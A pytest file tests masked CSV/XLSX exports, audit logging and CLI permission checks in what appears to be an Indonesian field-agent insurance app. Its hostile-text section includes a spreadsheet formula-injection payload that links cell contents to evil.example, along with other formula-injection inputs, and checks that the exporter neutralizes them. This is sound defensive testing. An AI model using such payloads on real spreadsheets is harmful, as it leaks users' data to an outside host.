"""Exports: content of the CSV and XLSX files, masking rules, scope, ranges, audit, CLI."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from helpers import clock
from helpers.niks import fixture_nik

from agent_app.reports import exports
from agent_app.reports.exports import files as export_files
from agent_app.services import masking

from .conftest import EVENT_ID, PASSWORD, World

JAN = {"start": dt.date(2027, 1, 1), "end": dt.date(2027, 1, 31)}
ROOT = Path(__file__).resolve().parents[3]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh, delimiter=";"))


def audits(world: World, action: str = exports.AUDIT_ACTION) -> list:
    with world.uow() as u:
        return [a for a in u.audit.list(limit=1000) if a.action == action]


def test_agent_export_is_masked_and_only_their_own(world: World, tmp_path: Path) -> None:
    out = tmp_path / "e.csv"
    request = exports.ExportRequest(exports.Kind.ENROLLMENTS, format=exports.Format.CSV, **JAN)
    result = exports.export(world.uow(), world.agent, request, out)
    rows = read_csv(out)
    assert result.rows == len(rows) == 3  # AG001's e1, e2 and the draft e4; not AG002's e3
    assert {r["ID"] for r in rows} == {world.ids[k] for k in ("e1", "e2", "e4")}
    by_id = {r["ID"]: r for r in rows}
    e1 = by_id[world.ids["e1"]]
    assert e1["NIK"] == "1671********0001"
    assert e1["Nama lengkap"] == "S*** A***"
    assert e1["Nomor HP"] == "0812****7001"
    assert e1["Tanggal lahir"] == "1999"
    assert e1["Alamat"] == "***"
    assert e1["Penghasilan yang dilaporkan"] == "***"
    assert e1["Status"] == "Diajukan"
    assert e1["Iuran per bulan"] == "16800"
    assert e1["Program"] == "JKK, JKM"
    assert by_id[world.ids["e4"]]["Status"] == "Draf"
    text = out.read_text(encoding="utf-8-sig")
    for serial in (1, 2, 4):
        assert fixture_nik(serial) not in text
    for name in ("Siti", "Aminah", "Rina", "Nur Hasanah", "Jl. Merdeka", "1000000"):
        assert name not in text


def test_supervisor_can_unmask_and_gets_everyone(world: World, tmp_path: Path) -> None:
    out = tmp_path / "e.xlsx"
    request = exports.ExportRequest(exports.Kind.ENROLLMENTS, unmasked=True, **JAN)
    result = exports.export(world.uow(), world.supervisor, request, out)
    assert result.rows == 4 and not result.masked
    book = openpyxl.load_workbook(out)
    sheet = book["Pendaftaran"]
    values = list(sheet.values)
    header, rows = list(values[0]), [dict(zip(values[0], r, strict=True)) for r in values[1:]]
    assert header[:5] == ["ID", "Tanggal", "Status", "NIK", "Nama lengkap"]
    by_name = {r["Nama lengkap"]: r for r in rows}
    assert set(by_name) == {"Siti Aminah", "Rina Wati", "Dewi Lestari", "Nur Hasanah"}
    assert by_name["Siti Aminah"]["NIK"] == fixture_nik(1)
    assert by_name["Siti Aminah"]["Nomor HP"] == "+6281234567001"
    assert by_name["Siti Aminah"]["Penghasilan yang dilaporkan"] == 1_000_000
    assert by_name["Rina Wati"]["Iuran per bulan"] == 36_800
    assert by_name["Rina Wati"]["Program"] == "JKK, JKM, JHT"
    assert sheet.cell(row=2, column=header.index("Iuran per bulan") + 1).number_format == (
        exports.RUPIAH
    )
    assert sheet.freeze_panes == "A2"
    assert sheet.cell(row=1, column=1).font.bold
    info = dict(book["Info"].values)
    assert info["Data pribadi"] == "tidak disamarkan"
    assert info["Jumlah baris"] == "4"
    assert info["Dibuat oleh"] == "SPV01"


def test_supervisor_export_is_masked_unless_asked(world: World, tmp_path: Path) -> None:
    out = tmp_path / "e.xlsx"
    exports.export(
        world.uow(), world.supervisor, exports.ExportRequest(exports.Kind.ENROLLMENTS, **JAN), out
    )
    rows = list(openpyxl.load_workbook(out)["Pendaftaran"].values)[1:]
    flat = json.dumps([list(r) for r in rows], default=str)
    assert fixture_nik(3) not in flat and "Dewi" not in flat
    assert "1671********0003" in flat


@pytest.mark.expect_warning_log(r"export refused: AG001 asked for unmasked data")
def test_agent_cannot_unmask_and_the_refusal_is_audited(world: World, tmp_path: Path) -> None:
    out = tmp_path / "e.csv"
    request = exports.ExportRequest(exports.Kind.ENROLLMENTS, unmasked=True, **JAN)
    with pytest.raises(masking.UnmaskNotAllowed):
        exports.export(world.uow(), world.agent, request, out)
    assert not out.exists()
    refused = audits(world, exports.AUDIT_REFUSED)
    assert len(refused) == 1 and refused[0].actor == "AG001"
    assert refused[0].details["masked"] is False
    assert audits(world) == []


def test_every_export_is_audited_without_personal_data(world: World, tmp_path: Path) -> None:
    for kind in exports.Kind:
        for fmt in exports.Format:
            request = exports.ExportRequest(kind, format=fmt, unmasked=True, **JAN)
            exports.export(world.uow(), world.supervisor, request, tmp_path / f"x.{fmt}")
    entries = audits(world)
    assert len(entries) == 6
    latest = entries[0]
    assert latest.actor == "SPV01"
    assert latest.details == {
        "kind": "enrollments",
        "from": "2027-01-01",
        "to": "2027-01-31",
        "event_id": None,
        "format": "xlsx",
        "masked": False,
        "rows": 4,
    }
    text = json.dumps([e.details for e in entries])
    for secret in (fixture_nik(1), "Siti", "Mariam", "0812", "x.csv", str(tmp_path)):
        assert secret not in text


def test_range_and_event_narrow_the_rows(world: World, tmp_path: Path) -> None:
    def ids(kind: exports.Kind, **kw: object) -> set[str]:
        out = tmp_path / "r.csv"
        request = exports.ExportRequest(kind, format=exports.Format.CSV, **kw)  # type: ignore[arg-type]
        exports.export(world.uow(), world.supervisor, request, out)
        return {r["ID"] for r in read_csv(out)}

    i = world.ids
    day = dt.date(2027, 1, 11)
    assert ids(exports.Kind.ENROLLMENTS, start=day, end=day) == {i["e1"], i["e3"], i["e4"]}
    assert ids(exports.Kind.ENROLLMENTS, start=dt.date(2027, 1, 20)) == {i["e2"]}
    assert ids(exports.Kind.ENROLLMENTS, event_id=EVENT_ID) == {i["e1"], i["e3"]}
    assert ids(exports.Kind.ENROLLMENTS, event_id=EVENT_ID, start=day, end=day) == {
        i["e1"],
        i["e3"],
    }
    assert ids(exports.Kind.VISITS, **JAN) == {i["v1"], i["v2"]}
    assert ids(exports.Kind.VISITS, event_id=EVENT_ID) == {i["v1"]}
    assert ids(exports.Kind.BUSINESSES, start=day, end=day) == {i["warung"], i["songket"]}
    assert ids(exports.Kind.BUSINESSES, event_id=EVENT_ID) == {i["warung"]}
    assert ids(exports.Kind.BUSINESSES, start=dt.date(2027, 2, 1)) == set()


def test_businesses_and_visits_content(world: World, tmp_path: Path) -> None:
    out = tmp_path / "b.csv"
    request = exports.ExportRequest(exports.Kind.BUSINESSES, format=exports.Format.CSV, **JAN)
    exports.export(world.uow(), world.agent, request, out)
    (row,) = read_csv(out)
    assert row["Nama usaha"] == "Pempek Cek Mar"
    assert row["Pemilik usaha"] == "Mariam"
    assert row["Nomor HP pemilik"] == "0812****8888"
    assert row["Sektor"] == "Kuliner"
    assert "081277778888" not in out.read_text(encoding="utf-8-sig")
    out = tmp_path / "v.xlsx"
    exports.export(
        world.uow(),
        world.supervisor,
        exports.ExportRequest(exports.Kind.VISITS, **JAN),
        out,
    )
    values = list(openpyxl.load_workbook(out)["Kunjungan"].values)
    rows = [dict(zip(values[0], r, strict=True)) for r in values[1:]]
    assert [(r["Nama usaha"], r["Hasil"], r["Agen"]) for r in rows] == [
        ("Pempek Cek Mar", "Perlu tindak lanjut", "AG001"),
        ("Songket Zainal", "Menolak", "AG002"),
    ]


def test_a_request_needs_a_range_or_an_event(world: World, tmp_path: Path) -> None:
    with pytest.raises(exports.BadRequest):
        exports.export(
            world.uow(), world.agent, exports.ExportRequest(exports.Kind.VISITS), tmp_path / "x"
        )
    backwards = exports.ExportRequest(
        exports.Kind.VISITS, start=dt.date(2027, 2, 1), end=dt.date(2027, 1, 1)
    )
    with pytest.raises(exports.BadRequest):
        exports.export(world.uow(), world.agent, backwards, tmp_path / "x")


def _cli(args: list[str], home: Path, password: str | None = PASSWORD, stdin: str = ""):
    env = {**os.environ, "AGENT_APP_HOME": str(home), "PYTHONPATH": str(ROOT)}
    env.pop("PERISAI_PASSWORD", None)
    if password is not None:
        env["PERISAI_PASSWORD"] = password
    return subprocess.run(
        [*clock.python(), "-m", "agent_app.reports", "export", *args],
        env=env,
        input=stdin,
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )


def test_cli_export_end_to_end(world: World, app_home: Path, tmp_path: Path) -> None:
    world.engine.dispose()  # the CLI opens the file itself
    out = tmp_path / "enrollments.xlsx"
    done = _cli(
        [
            "--agent", "SPV01", "--kind", "enrollments", "--from", "2027-01-01",
            "--to", "2027-01-31", "--event", EVENT_ID, "--format", "xlsx", "--out", str(out),
            "--unmasked",
        ],
        app_home,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "exported 2 enrollments" in done.stdout and "UNMASKED" in done.stdout
    rows = list(openpyxl.load_workbook(out)["Pendaftaran"].values)[1:]
    assert sorted(r[4] for r in rows) == ["Dewi Lestari", "Siti Aminah"]
    # The password may come on standard input; an agent gets a masked CSV.
    out_csv = tmp_path / "mine.csv"
    done = _cli(
        ["--agent", "AG001", "--kind", "enrollments", "--from", "2027-01-01",
         "--to", "2027-01-31", "--out", str(out_csv)],
        app_home, password=None, stdin=PASSWORD + "\n",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "masked" in done.stdout
    assert {r["NIK"] for r in read_csv(out_csv)} == {
        "1671********0001",
        "1671********0002",
        "1671********0004",
    }
    entries = audits(world)
    assert [(e.actor, e.details["masked"], e.details["rows"]) for e in entries] == [
        ("AG001", True, 3),
        ("SPV01", False, 2),
    ]


def test_cli_refuses_wrong_password_and_agent_unmasking(
    world: World, app_home: Path, tmp_path: Path
) -> None:
    world.engine.dispose()
    out = tmp_path / "x.csv"
    base = ["--kind", "visits", "--from", "2027-01-01", "--out", str(out)]
    done = _cli(["--agent", "AG001", *base], app_home, password="salah-sekali")
    assert done.returncode == 1
    assert "Wrong agent code or password" in done.stderr
    done = _cli(["--agent", "AG001", "--unmasked", *base], app_home)
    assert done.returncode == 1
    assert "Only a supervisor" in done.stderr
    assert not out.exists()
    done = _cli(["--agent", "AG001", "--kind", "visits", "--out", str(out)], app_home)
    assert done.returncode == 1 and "date range or an event" in done.stderr


# -- hostile text, failures, cancels and kills ------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
MARKER = "Zq9MarkerNamaPekerja"


def _rename_business(world: World, name: str, owner: str) -> None:
    import sqlalchemy as sa

    from agent_app.storage import tables

    with world.uow() as u:
        u.session.execute(
            sa.update(tables.Business)
            .where(tables.Business.name == "Pempek Cek Mar")
            .values(name=name, owner_name=owner)
        )
        u.commit()


def _all_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_formulas_in_exported_text_stay_text(world: World, tmp_path: Path) -> None:
    _rename_business(world, FORMULA, "@SUM(1+1)")
    january = exports.ExportRequest(exports.Kind.BUSINESSES, format=exports.Format.CSV, **JAN)
    exports.export(world.uow(), world.supervisor, january, tmp_path / "b.csv")
    (row,) = [r for r in read_csv(tmp_path / "b.csv") if "HYPERLINK" in r["Nama usaha"]]
    assert row["Nama usaha"] == "'" + FORMULA
    assert row["Pemilik usaha"] == "'@SUM(1+1)"
    as_xlsx = exports.ExportRequest(exports.Kind.BUSINESSES, format=exports.Format.XLSX, **JAN)
    exports.export(world.uow(), world.supervisor, as_xlsx, tmp_path / "b.xlsx")
    cells = _all_cells(tmp_path / "b.xlsx")
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in cells]
    assert "'@SUM(1+1)" in [c.value for c in cells]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("+62 812-3456", "'+62 812-3456"),
        ("+6281234567001", "+6281234567001"),  # a plain number stays a number
        ("-2", "-2"),
        ("-5+3", "'-5+3"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\x01=1", "'=1"),  # a control character cannot hide a formula
        ("Siti\x07 Ami\x1bnah\x7f", "Siti Aminah"),
        ("baris\nkedua\ttab", "baris\nkedua\ttab"),
        ("Pempek Cek Mar", "Pempek Cek Mar"),
    ],
)
def test_cell_text(text: str, safe: str) -> None:
    assert exports.cell_text(text) == safe


def test_a_control_character_no_longer_breaks_the_xlsx_export(
    world: World, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    _rename_business(world, f"Pempek {MARKER}\x07\x00", f"Owner{MARKER}\x1b")
    request = exports.ExportRequest(
        exports.Kind.BUSINESSES, format=exports.Format.XLSX, unmasked=True, **JAN
    )
    result = exports.export(world.uow(), world.supervisor, request, tmp_path / "b.xlsx")
    assert result.rows == 2
    values = [c.value for c in _all_cells(tmp_path / "b.xlsx")]
    assert f"Pempek {MARKER}" in values and f"Owner{MARKER}" in values
    assert MARKER not in caplog.text


def test_a_failed_export_logs_no_cell_value_and_leaves_no_file(
    world: World, tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    def breaks(path: Path, *_args: object) -> None:
        path.write_text("half an export")
        raise ValueError("Siti Aminah cannot be used in worksheets.")  # as openpyxl words it

    monkeypatch.setattr(export_files, "write_xlsx", breaks)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    request = exports.ExportRequest(exports.Kind.ENROLLMENTS, unmasked=True, **JAN)
    with pytest.raises(exports.ExportBug) as failed:
        exports.export(world.uow(), world.supervisor, request, out_dir / "e.xlsx")
    assert "Aminah" not in str(failed.value)
    assert failed.value.__cause__ is None and failed.value.__suppress_context__
    assert "Aminah" not in caplog.text
    assert "ValueError" in caplog.text


@pytest.mark.expect_warning_log(
    r"export enrollments not written: No space left on device", r"^ui: message shown: error$"
)
def test_a_full_disk_is_a_clear_message(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    def full(*_args: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(export_files, "write_csv", full)
    request = exports.ExportRequest(exports.Kind.ENROLLMENTS, format=exports.Format.CSV, **JAN)
    with pytest.raises(exports.ExportFailed) as failed:
        exports.export(world.uow(), world.agent, request, tmp_path / "e.csv")
    assert failed.value.code == "write_failed"
    assert "ruang disk" in failed.value.message("id")
    assert "disk space" in failed.value.message("en")


def _rows(count: int, stop: BaseException | None = None):  # type: ignore[no-untyped-def]
    for n in range(count):
        if stop is not None and n == count // 2:
            raise stop
        yield [f"{MARKER} {n}", "2027-01-04"]


COLUMNS = (exports.Column("Nama", lambda r: r), exports.Column("Tanggal", lambda r: r))


def _files_holding(folder: Path, text: str) -> list[Path]:
    found = []
    for path in folder.rglob("*"):
        if path.is_file() and text.encode() in path.read_bytes():
            found.append(path)
    return found


@pytest.fixture
def system_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The system temporary folder of this test (where openpyxl puts its sheets by default)."""
    folder = tmp_path / "systmp"
    folder.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(folder))
    return folder


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_cancelled_export_leaves_nothing_behind(
    tmp_path: Path, system_tmp: Path, fmt: str
) -> None:
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    with pytest.raises(KeyboardInterrupt):
        if fmt == "csv":
            exports.write_csv(
                out_dir / "e.csv", ["Nama", "Tanggal"], _rows(2000, KeyboardInterrupt())
            )
        else:
            exports.write_xlsx(
                out_dir / "e.xlsx", "Data", COLUMNS, _rows(2000, KeyboardInterrupt()), []
            )
    assert list(out_dir.iterdir()) == []
    assert list(system_tmp.iterdir()) == []


def test_a_finished_export_is_private_and_leaves_no_temporary_file(
    tmp_path: Path, system_tmp: Path
) -> None:
    out = tmp_path / "out.xlsx"
    exports.write_xlsx(out, "Data", COLUMNS, _rows(100), [("Laporan", "x")])
    assert [p.name for p in tmp_path.iterdir() if p != system_tmp] == ["out.xlsx"]
    assert list(system_tmp.iterdir()) == []
    if os.name == "posix":
        assert out.stat().st_mode & 0o777 == 0o600


KILLED_EXPORT = """
import sys, time
from pathlib import Path
from agent_app.reports import exports
MARKER = sys.argv[2]

def rows():
    for n in range(100_000):
        if n == 5_000:
            print("ready", flush=True)
            time.sleep(120)
        yield [f"{MARKER} {n}", "2027-01-04"]

columns = (exports.Column("Nama", lambda r: r), exports.Column("Tanggal", lambda r: r))
exports.write_xlsx(Path(sys.argv[1]), "Data", columns, rows(), [])
"""


@pytest.mark.skipif(os.name != "posix", reason="SIGKILL is POSIX")
def test_an_export_killed_midway_leaves_no_plaintext_in_the_system_temp_folder(
    tmp_path: Path, system_tmp: Path
) -> None:
    import signal

    out_dir = tmp_path / "out"
    out_dir.mkdir()
    child = subprocess.Popen(
        [*clock.python(), "-c", KILLED_EXPORT, str(out_dir / "e.xlsx"), MARKER],
        env={**os.environ, "TMPDIR": str(system_tmp)},
        stdout=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None
    assert child.stdout.readline().strip() == "ready"  # 5,000 rows written, not finished
    child.send_signal(signal.SIGKILL)
    child.wait()
    assert _files_holding(system_tmp, MARKER) == []
    assert not (out_dir / "e.xlsx").exists()
    # what the killed export left beside its destination goes with the next export there
    exports.write_csv(out_dir / "next.csv", ["Nama"], [["x"]])
    assert [p.name for p in out_dir.iterdir()] == ["next.csv"]


def test_cli_unmasks_only_for_a_supervisor_the_server_confirmed(
    world: World, app_home: Path, tmp_path: Path, keystore: Any
) -> None:
    """Issue 10 item 1: on a laptop with a server set, the slot's own word 'supervisor' (and
    a slot edited to say so) unmasks nothing; the server's confirmation does."""
    world.engine.dispose()
    from agent_app import paths

    paths.settings_path().write_text(json.dumps({"server_url": "https://perisai.example.id"}))
    out = tmp_path / "all.xlsx"
    base = ["--kind", "enrollments", "--from", "2027-01-01", "--to", "2027-01-31"]
    args = [*base, "--out", str(out), "--unmasked"]
    done = _cli(["--agent", "SPV01", *args], app_home)
    assert done.returncode == 1 and "Only a supervisor" in done.stderr
    assert not out.exists()
    # An agent who edits the key-slot file to read 'supervisor', confirmed, breaks the slot.
    data = json.loads(keystore.path.read_text())
    for slot in data["accounts"]:
        if slot["agent_code"] == "AG001":
            slot.update(role="supervisor", confirmed=True)
    keystore.path.write_text(json.dumps(data))
    done = _cli(["--agent", "AG001", *args], app_home)
    assert done.returncode == 1 and "Wrong agent code or password" in done.stderr
    assert not out.exists()
    # The server confirms the supervisor (at a login or refresh): now it may.
    keystore.confirm(keystore.unlock("SPV01", PASSWORD), "supervisor", "PLG")
    done = _cli(["--agent", "SPV01", *args], app_home)
    assert done.returncode == 0 and "UNMASKED" in done.stdout, done.stderr
    assert [(e.actor, e.details["masked"]) for e in audits(world) if not e.details["masked"]] == [
        ("SPV01", False)
    ]
